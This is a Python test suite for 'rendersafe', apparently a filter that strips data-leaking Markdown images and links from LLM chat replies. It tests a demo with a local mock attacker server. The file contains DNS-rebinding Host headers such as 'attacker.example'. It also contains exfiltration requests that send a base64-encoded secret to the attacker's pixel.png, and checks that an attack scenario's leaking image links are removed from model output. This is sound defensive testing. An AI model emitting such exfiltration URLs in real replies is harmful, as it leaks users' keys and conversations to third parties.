"""The demo app under hostile requests, served by a real uvicorn: a rebound host name
cannot read it, and no parameter holds a connection or ends in a traceback."""

from __future__ import annotations

import base64
import itertools
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.types import Receive, Scope, Send

from rendersafe.demo import LOCAL_HOSTS, build_demo
from rendersafe.demo.app import DEFAULT_DELAY
from rendersafe.demo.decode import decode_url, decode_value
from rendersafe.demo.guard import split_host_header
from rendersafe.demo.replies import CONVERSATION, KEY, SECRET
from servers import Server

SRC = Path(__file__).parent.parent / "src"


@pytest.fixture(scope="module")
def demo() -> Iterator[tuple[str, int]]:
    """The demo on a port the OS picks, built knowing that port (as `rendersafe demo`)."""
    inner: dict[str, object] = {}

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        await inner["app"](scope, receive, send)  # type: ignore[operator]

    server = Server(app)
    port = int(server.url.rpartition(":")[2])
    inner["app"] = build_demo(port=port)
    with server:
        yield server.url, port


def _get(url: str, host: str, **kwargs: object) -> httpx.Response:
    return httpx.get(url, headers={"host": host}, timeout=10, **kwargs)  # type: ignore[arg-type]


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "LOCALHOST", "[::1]"])
def test_local_names_on_the_demo_port_are_served(demo: tuple[str, int], name: str) -> None:
    url, port = demo
    assert _get(url + "/demo/conversation", f"{name}:{port}").status_code == 200
    assert _get(url + "/demo/audit?request_id=x", f"{name}:{port}").json() == []


@pytest.mark.parametrize(
    "host",
    [
        "attacker.example:{port}",  # DNS rebinding: the attacker's name, resolved to 127.0.0.1
        "attacker.example",
        "localhost.attacker.example:{port}",
        "127.0.0.1.nip.io:{port}",
        "127.0.0.1:{other}",  # another port: another origin
        "localhost:{other}",
        "localhost.:{port}",
        "[::1]x:{port}",
        "localhost:{port}:{port}",
        "localhost:-1",
        "user@localhost:{port}",
        "",
    ],
)
def test_other_hosts_are_refused(demo: tuple[str, int], host: str) -> None:
    url, port = demo
    header = host.format(port=port, other=port + 1 if port < 65535 else port - 1)
    for path in ("/demo/audit?request_id=x", "/", "/api/chat", "/static/demo.js"):
        answer = _get(url + path, header)
        assert answer.status_code == 400, (path, header)
        assert "Host not allowed" in answer.text


def test_a_request_without_one_host_header_is_refused(demo: tuple[str, int]) -> None:
    port = demo[1]
    for request in (
        b"GET /demo/conversation HTTP/1.0\r\n\r\n",
        b"GET /demo/conversation HTTP/1.1\r\nHost: localhost:%d\r\nHost: attacker.example\r\n\r\n"
        % port,
    ):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
            conn.sendall(request)
            head = conn.recv(4096)
        assert head.split(b"\r\n")[0].split(b" ")[1] == b"400", head


def test_the_host_check_is_configurable() -> None:
    app = build_demo(hosts=[*LOCAL_HOSTS, "demo.internal"])
    with Server(app) as server:
        port = server.url.rpartition(":")[2]
        assert _get(server.url + "/demo/conversation", f"demo.internal:{port}").status_code == 200
        assert _get(server.url + "/demo/conversation", "other.internal").status_code == 400


def test_the_command_line_demo_checks_the_host() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    command = [sys.executable, "-m", "rendersafe", "demo", "--port", str(port)]
    process = subprocess.Popen(
        [*command, "--allow-host", "demo.internal"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        url = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 30
        while True:
            try:
                first = _get(url + "/demo/conversation", f"localhost:{port}")
                break
            except httpx.TransportError:
                assert time.monotonic() < deadline, "the demo did not start"
                time.sleep(0.1)
        assert first.status_code == 200
        assert _get(url + "/demo/conversation", f"demo.internal:{port}").status_code == 200
        assert _get(url + "/demo/audit", f"attacker.example:{port}").status_code == 400
        assert _get(url + "/demo/audit", "localhost:1").status_code == 400
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.mark.parametrize(
    "query",
    [
        "delay=inf",
        "delay=-inf",
        "delay=nan",
        "delay=1e9",
        "delay=5.01",
        "delay=-1",
        "delay=abc",
        "delay=",
        "delay=0x10",
        "delay=" + "1" * 100,
        "delay=1" + "0" * 400,
        "scenario=nope",
        "scenario=",
    ],
)
@pytest.mark.parametrize("path", ["/api/chat", "/raw/chat"])
def test_bad_parameters_are_a_short_400(demo: tuple[str, int], path: str, query: str) -> None:
    url, port = demo
    start = time.monotonic()
    answer = httpx.post(
        f"{url}{path}?{query}", json={"messages": []}, headers={"host": f"127.0.0.1:{port}"}
    )
    assert answer.status_code == 400
    assert time.monotonic() - start < 5
    assert "Traceback" not in answer.text
    assert len(answer.text) < 200
    assert "delay" in answer.text or "scenario" in answer.text


def test_the_largest_delay_is_accepted_and_bounded(demo: tuple[str, int]) -> None:
    url, port = demo
    headers = {"host": f"127.0.0.1:{port}"}
    with httpx.stream("POST", f"{url}/raw/chat?delay=5", headers=headers, timeout=10) as answer:
        assert answer.status_code == 200
    fast = httpx.post(f"{url}/api/chat?delay=0&scenario=attack", headers=headers, timeout=30)
    assert fast.status_code == 200
    assert "[DONE]" in fast.text


def test_other_parameters_are_bounded(demo: tuple[str, int]) -> None:
    url, port = demo
    headers = {"host": f"127.0.0.1:{port}"}
    long_id = httpx.get(f"{url}/demo/audit?request_id={'x' * 500}", headers=headers)
    assert long_id.status_code == 400
    for path in ("/api/chat", "/raw/chat"):
        big = httpx.post(f"{url}{path}?delay=0", content=b"x" * (2 << 20), headers=headers)
        assert big.status_code == 400
        assert "larger than" in big.text


def test_host_header_parsing() -> None:
    assert split_host_header("[::1]:8765") == ("[::1]", 8765)
    assert split_host_header("LocalHost") == ("localhost", None)
    assert split_host_header("[::1") is None
    assert split_host_header("a b:80") is None
    assert split_host_header("localhost:123456") is None


def _info(url: str, port: int) -> dict[str, object]:
    return _get(url + "/demo/info", f"127.0.0.1:{port}").json()  # type: ignore[no-any-return]


def _attacker_log(url: str, port: int, since: int = 0) -> dict[str, Any]:
    answer = _get(f"{url}/demo/attacker?since={since}", f"127.0.0.1:{port}")
    assert answer.status_code == 200
    log: dict[str, Any] = answer.json()
    return log


def test_the_demo_starts_its_own_attacker_on_another_loopback_port(
    demo: tuple[str, int],
) -> None:
    url, port = demo
    origin = _info(url, port)["attacker"]
    assert isinstance(origin, str)
    host, _, attacker_port = origin.removeprefix("http://").partition(":")
    assert host == "127.0.0.1"
    assert int(attacker_port) != port
    before = _attacker_log(url, port)["next"]
    assert isinstance(before, int)
    leak = base64.urlsafe_b64encode(SECRET.encode()).decode()
    hit = httpx.get(f"{origin}/pixel.png?n=1&d={leak}", cookies={"session": "s"}, timeout=10)
    assert hit.status_code == 200
    assert hit.headers["content-type"].startswith("image/svg+xml")
    [entry] = _attacker_log(url, port, before)["requests"]
    assert entry["path"] == "/pixel.png"
    assert entry["query"] == f"n=1&d={leak}"
    # No "-" or "_" in this one: its alphabet is both base64's and base64url's.
    assert entry["decoded"] == [{"where": "query d", "encoding": "base64", "text": SECRET}]
    assert "cookie" not in dict(entry["headers"])
    assert entry["time"].endswith("+00:00")


@pytest.mark.parametrize(
    "host",
    [
        "attacker.example:{port}",
        "attacker.example",
        "127.0.0.1.nip.io:{port}",
        "127.0.0.1:{other}",
        "localhost.:{port}",
        "user@localhost:{port}",
        "",
    ],
)
def test_the_attacker_checks_the_host_as_strictly(demo: tuple[str, int], host: str) -> None:
    url, port = demo
    origin = str(_info(url, port)["attacker"])
    attacker_port = int(origin.rpartition(":")[2])
    before = _attacker_log(url, port)["next"]
    header = host.format(port=attacker_port, other=port)
    answer = _get(origin + "/pixel.png?d=x", header)
    assert answer.status_code == 400
    assert "Host not allowed" in answer.text
    assert _get(origin + "/p.png", f"localhost:{attacker_port}").status_code == 200
    after = _attacker_log(url, port, int(before))
    assert [e["path"] for e in after["requests"]] == ["/p.png"]  # the refused one is not kept


def test_the_attacker_never_serves_its_log(demo: tuple[str, int]) -> None:
    url, port = demo
    origin = str(_info(url, port)["attacker"])
    for path in ("/demo/attacker", "/demo/audit", "/demo/info", "/"):
        answer = _get(origin + path, origin.removeprefix("http://"))
        assert answer.status_code == 200
        assert answer.text == "logged\n"


# "\u0661", an Arabic-Indic one, passes str.isdigit(): the check must not rely on it.
@pytest.mark.parametrize("since", ["-1", "x", "1" * 13, "1.5", "", "\u0661"])
def test_the_attacker_log_parameter_is_bounded(demo: tuple[str, int], since: str) -> None:
    url, port = demo
    answer = _get(f"{url}/demo/attacker?since={since}", f"127.0.0.1:{port}")
    assert answer.status_code == 400
    assert "since" in answer.text


def test_the_protected_attack_reads_as_prose(demo: tuple[str, int]) -> None:
    """Through the middleware, with the conversation: no URL to the attacker is left and
    no Markdown syntax is left dangling (a reference image's definition removed leaves
    "complete![1]", a footnote mark, not "![status][s]")."""
    url, port = demo
    origin = str(_info(url, port)["attacker"])
    headers = {"host": f"127.0.0.1:{port}"}
    body = {"model": "demo", "stream": True, "messages": CONVERSATION}
    answer = httpx.post(f"{url}/api/chat?scenario=attack&delay=0", json=body, headers=headers)
    text = _content(answer.text)
    raw = _content(
        httpx.post(f"{url}/raw/chat?scenario=attack&delay=0", json=body, headers=headers).text
    )
    assert origin in raw
    assert origin.removeprefix("http://") not in text
    assert KEY not in text
    assert "chart of our chat [image removed]" in text.replace("\\", "")
    assert "Your staging setup is complete![1] <img" in text
    assert "For details see your report." in text
    assert "Your key is still valid: check it." in text
    assert "][" not in text
    assert "](" not in text


def _content(sse: str) -> str:
    out = []
    for line in sse.splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line[6:])["choices"]:
                out.append(choice["delta"].get("content", ""))
    return "".join(out)


def test_the_default_speed_is_slow_enough_to_watch(demo: tuple[str, int]) -> None:
    url, port = demo
    headers = {"host": f"127.0.0.1:{port}"}
    start = time.monotonic()
    with httpx.stream("POST", f"{url}/raw/chat", headers=headers, timeout=10) as answer:
        events = answer.iter_lines()
        got = sum(1 for line in itertools.islice(events, 40) if line.startswith("data:"))
    assert got == 20
    assert time.monotonic() - start > 19 * DEFAULT_DELAY * 0.9
    assert 0.04 <= DEFAULT_DELAY <= 0.08


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("dXNlcjogbXkga2V5IGlzIHNrLWxpdmU", ("base64", "user: my key is sk-live")),
        ("dXNlcjogbXkga2V5IGlzIHNr", ("base64", "user: my key is sk")),
        ("dXNlcjogbXkga2V5IGlzIHNrLWxpdm", ("base64", "user: my key is sk-liv")),  # cut short
        ("dXNlcj8_Pz8_IGtleQ", ("base64url", "user????? key")),
        ("dXNlcj8%2FPz8%2FIGtleQ%3D%3D", ("percent+base64", "user????? key")),
        ("757365723a206b6579", ("hex", "user: key")),
        ("757365723a206b657", ("hex", "user: ke")),
        ("my%20key%20is%20here", ("percent", "my key is here")),
        ("sk-live-4f9a2c7e", None),  # plain: shown as it came
        ("status.svg", None),
        ("0123456789abcdef", None),  # hex, but not text
        ("pixel", None),
        ("%E2%82", None),
    ],
)
def test_the_attacker_decodes_what_it_receives(raw: str, expected: tuple[str, str] | None) -> None:
    assert decode_value(raw) == expected


def test_the_attacker_decodes_path_segments_and_query_values() -> None:
    found = decode_url("/badge/3/dXNlcjogbXkga2V5IGlz%3D/s.svg", "n=3&h=757365723a206b6579")
    assert [(d.where, d.encoding, d.text) for d in found] == [
        ("path segment 3", "percent+base64", "user: my key is"),
        ("query h", "hex", "user: key"),
    ]


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_the_command_line_demo_starts_the_attacker() -> None:
    port, attacker_port = _free_port(), _free_port()
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    command = [sys.executable, "-m", "rendersafe", "demo", "--port", str(port)]
    process = subprocess.Popen(
        [*command, "--attacker-port", str(attacker_port)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stderr is not None
        said = process.stderr.readline()  # written once both ports accept connections
        origin = f"http://127.0.0.1:{attacker_port}"
        assert f"http://127.0.0.1:{port}" in said
        assert origin in said
        url = f"http://127.0.0.1:{port}"
        assert _info(url, port)["attacker"] == origin
        assert _get(origin + "/t.gif?h=757365723a206b6579", f"127.0.0.1:{attacker_port}").is_success
        assert _get(origin + "/t.gif", f"attacker.example:{attacker_port}").status_code == 400
        assert _get(origin + "/t.gif", f"127.0.0.1:{port}").status_code == 400
        [entry] = _attacker_log(url, port)["requests"]
        assert entry["decoded"] == [{"where": "query h", "encoding": "hex", "text": "user: key"}]
        reply = httpx.post(
            f"{url}/raw/chat?scenario=attack&delay=0", headers={"host": f"localhost:{port}"}
        )
        assert f"{origin}/pixel.png" in _content(reply.text)
    finally:
        process.terminate()
        process.communicate(timeout=10)  # and close the pipe


def test_the_command_line_demo_refuses_one_port_for_both() -> None:
    port = _free_port()
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    command = [sys.executable, "-m", "rendersafe", "demo", "--port", str(port)]
    done = subprocess.run(
        [*command, "--attacker-port", str(port)],
        check=False,
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 2
    assert "rendersafe: error:" in done.stderr
    assert "Traceback" not in done.stderr
